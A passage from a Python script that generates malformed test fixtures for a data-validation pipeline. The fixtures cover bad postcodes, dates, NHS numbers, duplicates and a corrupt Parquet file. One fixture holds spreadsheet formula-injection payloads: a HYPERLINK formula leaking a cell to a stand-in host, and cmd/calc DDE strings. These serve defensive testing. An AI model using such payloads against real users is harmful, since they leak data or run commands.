        "QD0603,,,BB2 1AD,Family support,01/04/2010,05/04/2010,,30,F",
    ]
    text = "\n".join(lines) + "\n"
    c.add(
        name,
        text.encode("utf-8"),
        "Empty lines (3, 6) and a line of empty fields (5) between records: each quarantined as empty_row.",
        identifiers=["QD0601", "QD0602", "QD0603"],
        postcodes=PC[:3],
        read=6,
        accepted=3,
        quarantined=3,
        reasons={"empty_row": 3},
        quarantine=dict([q(name, 3, "empty_row"), q(name, 5, "empty_row"), q(name, 6, "empty_row")]),
    )

    name = "whitespace_only_line.csv"
    lines = [
        ",".join(HEADER),
        "QD0701,,,BB2 1AA,Family support,01/04/2010,05/04/2010,,30,F",
        "    ",
        "QD0702,,,BB2 1AB,Family support,01/04/2010,05/04/2010,,30,F",
    ]
    text = "\n".join(lines) + "\n"
    c.add(
        name,
        text.encode("utf-8"),
        "A line holding only spaces between records: a blank line, so empty_row (like an empty line).",
        identifiers=["QD0701", "QD0702"],
        postcodes=PC[:2],
        read=3,
        accepted=2,
        quarantined=1,
        reasons={"empty_row": 1},
        quarantine=dict([q(name, 3, "empty_row")]),
    )

    # ------------------------------------------------------------------------------------ postcodes
    name = "postcodes_invalid.csv"
    rows = [
        rec("QE0101", PC[0]),
        rec("QE0102", "NOT KNOWN"),
        rec("QE0103", "NFA"),
        rec("QE0104", "BB99 9ZZ"),
        rec("QE0105", ""),
        rec("QE0106", "BB2 1A"),
    ]
    text, starts = delimited(rows)
    c.add(
        name,
        text.encode("utf-8"),
        """Postcodes that cannot be geocoded: 'NOT KNOWN', 'NFA' and 'BB2 1A' are not postcodes (invalid);
        'BB99 9ZZ' is well formed but in no directory (unknown); a blank is 'blank' (the postcode is optional
        in this file's spec, so blanks reach geocoding rather than failing validation).""",
        columns={"postcode": {"column": "postcode", "type": "postcode", "required": False}},
        rows=rows,
        read=6,
        accepted=1,
        quarantined=5,
        reasons={"blank": 1, "invalid": 3, "unknown": 1},
        quarantine=dict(
            [
                q(name, starts[1], "invalid"),
                q(name, starts[2], "invalid"),
                q(name, starts[3], "unknown"),
                q(name, starts[4], "blank"),
                q(name, starts[5], "invalid"),
            ]
        ),
    )

    rows = [
        rec("QE0201", "bb21aa"),
        rec("QE0202", " BB2  1AA "),
        rec("QE0203", "bb2\u00a01ab"),
        rec("QE0204", "Bb2 1aD"),
        rec("QE0205", "\tBB21AE"),
    ]
    text, _ = delimited(rows)
    c.add(
        "postcodes_odd_spacing.csv",
        text.encode("utf-8"),
        """Postcodes in lower or mixed case, without a space, with doubled, leading, trailing, non-breaking
        and tab spaces: all normalised and geocoded.""",
        rows=rows,
        postcodes=["BB2 1AA", "BB2 1AB", "BB2 1AD", "BB2 1AE"],
        read=5,
        accepted=5,
        quarantined=0,
    )

    name = "postcode_outside_borough.csv"
    rows = [rec("QE0301", PC[0]), rec("QE0302", "M1 1AE"), rec("QE0303", "SW1A 1AA"), rec("QE0304", "BB3 0ZZ")]
    text, starts = delimited(rows)
    c.add(
        name,
        text.encode("utf-8"),
        """Real postcodes outside the borough (Manchester M1 1AE, Westminster SW1A 1AA) and one in Darwen's
        district that does not exist (BB3 0ZZ). The embedded directory holds Blackburn with Darwen only, so
        postcodes elsewhere are 'unknown', not 'outside_study_area' (that outcome needs a national directory
        in geography.postcode_directory).""",
        rows=rows,
        read=4,
        accepted=1,
        quarantined=3,
        reasons={"unknown": 3},
        quarantine=dict([q(name, starts[i], "unknown") for i in (1, 2, 3)]),
    )

    # ------------------------------------------------------------------------------------ dates
    name = "dates_impossible.csv"
    rows = [
        rec("QF0101", PC[0]),
        rec("QF0102", PC[1], referral_date="31/02/2010"),
        rec("QF0103", PC[2], referral_date="2010-13-01"),
        rec("QF0104", PC[3], start_date="yesterday"),
        rec("QF0105", PC[4], date_of_birth="31/12/1899"),
        rec("QF0106", PC[5], referral_date="04/13/2010"),
    ]
    text, starts = delimited(rows)
    c.add(
        name,
        text.encode("utf-8"),
        """Impossible or unreadable dates: 31 February, month 13, a word, a birth before 1900 and a US-order
        date: each invalid_date, never rolled over to a nearby date.""",
        rows=rows,
        read=6,
        accepted=1,
        quarantined=5,
        reasons={"invalid_date": 5},
        quarantine=dict([q(name, starts[i], "invalid_date") for i in range(1, 6)]),
    )

    name = "dates_future.csv"
    rows = [
        rec("QF0201", PC[0]),
        rec("QF0202", PC[1], end_date="01/01/2099"),
        rec("QF0203", PC[2], referral_date="01/04/2099", start_date="02/04/2099"),
        rec("QF0204", PC[3], end_date="02/01/2025"),
    ]
    text, starts = delimited(rows)
    c.add(
        name,
        text.encode("utf-8"),
        f"""Dates after the run's reference date ({REFERENCE_DATE.isoformat()}): an end date in 2099, a referral
        and start in 2099, and an end date the day after the reference date.""",
        rows=rows,
        read=4,
        accepted=1,
        quarantined=3,
        reasons={"future_date": 3},
        quarantine=dict([q(name, starts[i], "future_date") for i in (1, 2, 3)]),
    )

    name = "dates_order.csv"
    rows = [
        rec("QF0301", PC[0], date_of_birth="01/02/1980"),
        rec("QF0302", PC[1], date_of_birth="01/05/2010"),
        rec("QF0303", PC[2], end_date="01/04/2010"),
        rec("QF0304", PC[3], start_date="31/03/2010"),
        rec("QF0305", PC[4], end_date="05/04/2010"),
    ]
    text, starts = delimited(rows)
    c.add(
        name,
        text.encode("utf-8"),
        """Dates out of order: a birth after the referral, an end before the start, a start before the referral
        (date_order). An end on the start day is fine.""",
        rows=rows,
        read=5,
        accepted=2,
        quarantined=3,
        reasons={"date_order": 3},
        quarantine=dict([q(name, starts[i], "date_order") for i in (1, 2, 3)]),
    )

    rows = [
        rec("QF0401", PC[0], referral_date="2010-04-01", start_date="05/04/2010", end_date="40299"),
        rec("QF0402", PC[1], referral_date="40269", start_date="2010-04-05 00:00:00", date_of_birth="1980-02-01"),
        rec("QF0403", PC[2], referral_date="01/04/2010", start_date="40273", date_of_birth="29253"),
    ]
    text, _ = delimited(rows)
    c.add(
        "dates_mixed_formats.csv",
        text.encode("utf-8"),
        """ISO, UK and Excel serial dates mixed in the same columns (and an ISO date with a midnight time): all
        accepted by the default formats.""",
        rows=rows,
        read=3,
        accepted=3,
        quarantined=0,
    )

    # ------------------------------------------------------------------------------------ numbers
    name = "ages.csv"
    rows = [
        rec("QG0101", PC[0], age=" 42 "),
        rec("QG0102", PC[1], age=""),
        rec("QG0103", PC[2], age="+7"),
        rec("QG0104", PC[3], age="-1"),
        rec("QG0105", PC[4], age="1e2"),
        rec("QG0106", PC[5], age="12.5"),
        rec("QG0107", PC[6], age="twelve"),
        rec("QG0108", PC[7], age="0"),
    ]
    text, starts = delimited(rows)
    c.add(
        name,
        text.encode("utf-8"),
        """Ages: padded, blank (optional), '+7' and 0 are fine; -1 is negative_value; scientific notation
        ('1e2'), a decimal and a word are invalid_integer.""",
        rows=rows,
        read=8,
        accepted=4,
        quarantined=4,
        reasons={"invalid_integer": 3, "negative_value": 1},
        quarantine=dict(
            [
                q(name, starts[3], "negative_value"),
                q(name, starts[4], "invalid_integer"),
                q(name, starts[5], "invalid_integer"),
                q(name, starts[6], "invalid_integer"),
            ]
        ),
    )

    name = "nhs_numbers.csv"
    bad_check = NHS[0][:9] + str((int(NHS[0][9]) + 1) % 10)
    rows = [
        rec("QG0201", PC[0], nhs_number=NHS[0]),
        rec("QG0202", PC[1], nhs_number=f"{NHS[1][:3]} {NHS[1][3:6]} {NHS[1][6:]}"),
        rec("QG0203", PC[2], nhs_number=f"{NHS[2][:3]}-{NHS[2][3:6]}-{NHS[2][6:]}"),
        rec("QG0204", PC[3], nhs_number=""),
        rec("QG0205", PC[4], nhs_number=bad_check),
        rec("QG0206", PC[5], nhs_number="9.43E+09"),
        rec("QG0207", PC[6], nhs_number=NHS[3][:9]),
    ]
    text, starts = delimited(rows)
    c.add(
        name,
        text.encode("utf-8"),
        """NHS numbers: plain, with spaces, with dashes and blank (optional) are fine; a failed check digit,
        Excel's '9.43E+09' (the number lost to scientific notation) and nine digits are invalid_nhs_number.
        The quarantine shows their shape only.""",
        rows=rows,
        read=7,
        accepted=4,
        quarantined=3,
        reasons={"invalid_nhs_number": 3},
        quarantine=dict([q(name, starts[i], "invalid_nhs_number") for i in (4, 5, 6)]),
    )

    # ------------------------------------------------------------------------------------ other values
    name = "duplicates.csv"
    rows = [
        rec("QH0101", PC[0]),
        rec("QH0101", PC[0]),
        rec(" qh0101 ", PC[1]),
        rec("QH0101", PC[0], service="Housing"),
        rec("QH0102", PC[2], start_date="06/04/2010"),
        rec("QH0102", PC[2], start_date="6/4/2010"),
    ]
    text, starts = delimited(rows)
    c.add(
        name,
        text.encode("utf-8"),
        """An exact repeat (line 3), a near repeat differing only in the client id's case and spaces (line 4,
        another postcode but the same person, service and dates), a different service (kept), and the same
        date written two ways (line 7): duplicates are quarantined, naming the first row.""",
        rows=rows,
        read=6,
        accepted=3,
        quarantined=3,
        reasons={"duplicate": 3},
        quarantine=dict([q(name, starts[i], "duplicate") for i in (1, 2, 5)]),
    )

    name = "too_long.csv"
    rows = [rec("QH0201", PC[0]), rec("QH0202", PC[1], service="Family support " * 80), rec("QH0203", PC[2])]
    text, starts = delimited(rows)
    c.add(
        name,
        text.encode("utf-8"),
        "A 1,200-character service (pasted case notes): longer than max_length 1000, quarantined as too_long.",
        rows=rows,
        read=3,
        accepted=2,
        quarantined=1,
        reasons={"too_long": 1},
        quarantine=dict([q(name, starts[1], "too_long")]),
    )

    name = "formula_injection.csv"
    rows = [
        rec("QH0301", PC[0], service='=HYPERLINK("http://example.invalid/?leak="&A1,"Click for details")'),
        rec("QH0302", PC[1], service="+cmd|' /C calc'!A0"),
        rec("QH0303", PC[2], service="@SUM(1+1)*cmd|' /C calc'!A0"),
        rec("QH0304", PC[3], service="-2+3+cmd|' /C calc'!A0"),
        rec("QH0305", PC[4], service="=1+1", age="-5"),
    ]
    text, starts = delimited(rows)
    c.add(
        name,
        text.encode("utf-8"),
        """Spreadsheet formulas in a text field (=HYPERLINK, +cmd, @SUM, -2+3): just text, accepted. No cell of
        any CSV the run publishes may start with = + - @.""",
        rows=rows,
        read=5,
        accepted=4,
        quarantined=1,
        reasons={"negative_value": 1},
        quarantine=dict([q(name, starts[4], "negative_value")]),
    )

    name = "=formula_file_name.csv"
    rows = [rec("QH0401", PC[0]), rec("QH0402", PC[1], sex="Unknown")]
    text, starts = delimited(rows)
    c.add(
        name,
        text.encode("utf-8"),
        """A file whose NAME starts with '=': its name is copied into the quarantine's file and source_row
        cells, which are published with a leading apostrophe so a spreadsheet shows them as text.""",
        rows=rows,
        read=2,
        accepted=1,
        quarantined=1,
        reasons={"not_allowed": 1},
        quarantine=dict([q("'" + name, starts[1], "not_allowed")]),
    )

    name = "na_none_null_text.csv"
    rows = [
        rec("QH0501", PC[0], service="NA"),
        rec("QH0502", PC[1], service="None"),
        rec("QH0503", PC[2], service="null"),
        rec("QH0504", PC[3], service="NULL"),
        rec("QH0505", PC[4], service="N/A"),
    ]
    text, _ = delimited(rows)
    c.add(
        name,
        text.encode("utf-8"),
        """'NA', 'None', 'null', 'NULL', 'N/A' in a required text field: accepted as text. Files are read as
        text, and a word is not a missing value until the spec says so (a 'service' called 'NA' is not blank);
        only an empty field is missing_value.""",
        rows=rows,
        read=5,
        accepted=5,
        quarantined=0,
    )

    name = "missing_values.csv"
    rows = [
        rec("QH0601", PC[0]),
        rec("", PC[1]),
        rec("QH0603", PC[2], service="   "),
        rec("QH0604", ""),
        rec("QH0605", PC[4], referral_date=""),
        rec("QH0606", PC[5], sex=""),
    ]
    text, starts = delimited(rows)
    c.add(
        name,
        text.encode("utf-8"),
        """Required fields left blank (client id, a service of spaces, postcode, referral date, sex):
        missing_value, and a blank date is not also an invalid_date.""",
        rows=rows,
        read=6,
        accepted=1,
        quarantined=5,
        reasons={"missing_value": 5},
        quarantine=dict([q(name, starts[i], "missing_value") for i in range(1, 6)]),
    )

    name = "sex_categories.csv"
    rows = [rec("QH0701", PC[0], sex="f"), rec("QH0702", PC[1], sex=" m "), rec("QH0703", PC[2], sex="Female")]
    rows.append(rec("QH0704", PC[3], sex="X"))
    text, starts = delimited(rows)
    c.add(
        name,
        text.encode("utf-8"),
        "Categories compare ignoring case and spaces ('f', ' m '); 'Female' and 'X' are not in [F, M].",
        rows=rows,
        read=4,
        accepted=2,
        quarantined=2,
        reasons={"not_allowed": 2},
        quarantine=dict([q(name, starts[2], "not_allowed"), q(name, starts[3], "not_allowed")]),
    )

    # ------------------------------------------------------------------------------------ Parquet
    table = pa.table(
        {
            "client_id": pa.array(["QJ0101", "QJ0102", "QJ0103"]),
            "nhs_number": pa.array([int(NHS[0]), None, int(NHS[4])], pa.int64()),
            "date_of_birth": pa.array([dt.date(1980, 2, 1), None, dt.date(2001, 3, 4)], pa.date32()),
            "postcode": pa.array([PC[0], PC[1], PC[2].lower()]),
            "service": pa.array(["Family support", "Housing", "Family support"]).dictionary_encode(),
            "referral_date": pa.array([dt.datetime(2010, 4, d) for d in (1, 2, 3)], pa.timestamp("ms")),
            "start_date": pa.array([dt.datetime(2010, 4, d) for d in (5, 6, 7)], pa.timestamp("us")),
            "end_date": pa.array([None, dt.date(2010, 5, 1), None], pa.date32()),
            "age": pa.array([30, None, 9], pa.int32()),
            "sex": pa.array(["F", "M", "F"]),
            "score": pa.array([1.5, None, 2.0], pa.float64()),
        }
    )
    c.add(
        "typed.parquet",
        parquet(table),
        """Parquet with typed columns: int64 NHS numbers with a null, date32 and timestamp dates, a dictionary
        (categorical) service, int32 ages with a null, an unmapped float column. All accepted.""",
        identifiers=["QJ0101", "QJ0102", "QJ0103", NHS[0], NHS[4]],
        postcodes=PC[:3],
        read=3,
        accepted=3,
        quarantined=0,
        input={"format": "parquet"},
    )
    c.add(
        "corrupt.parquet",
        b"PAR1" + b"\x00" * 64 + b"not a parquet footer",
        "A file named .parquet that is not Parquet: a whole-file error.",
        error="cannot read it as Parquet",
    )
    return c


# --------------------------------------------------------------------------------------------- output


def _expected_yaml(corpus: Corpus) -> str:
    document = {
        "reference_date": REFERENCE_DATE,
        "layouts": {"standard": STANDARD},
        "cases": corpus.cases,
    }
    header = (
        "# GENERATED by tests/data/make_bad_inputs.py: do not edit; change the script and run it again.\n"
        "# For each file in this folder: its column mapping and what circles must do with it (see the script).\n"
    )
    return header + yaml.safe_dump(document, sort_keys=False, allow_unicode=True, width=100)


def write(out: Path = OUT) -> list[Path]:
    """(Re)write the corpus into ``out``; remove files there that the corpus no longer has."""
    corpus = build()
    out.mkdir(parents=True, exist_ok=True)
    files = dict(corpus.files) | {"expected.yaml": _expected_yaml(corpus).encode("utf-8")}
    for stale in sorted(out.iterdir()):
        if stale.is_file() and stale.name not in files:
            stale.unlink()
    written = []
    for name, data in files.items():
        path = out / name
        path.write_bytes(data)
        written.append(path)
    return written


if __name__ == "__main__":
    target = Path(sys.argv[1]) if len(sys.argv) > 1 else OUT
    paths = write(target)
    total = sum(p.stat().st_size for p in paths)
    print(f"wrote {len(paths)} files ({total:,} bytes) to {target}")
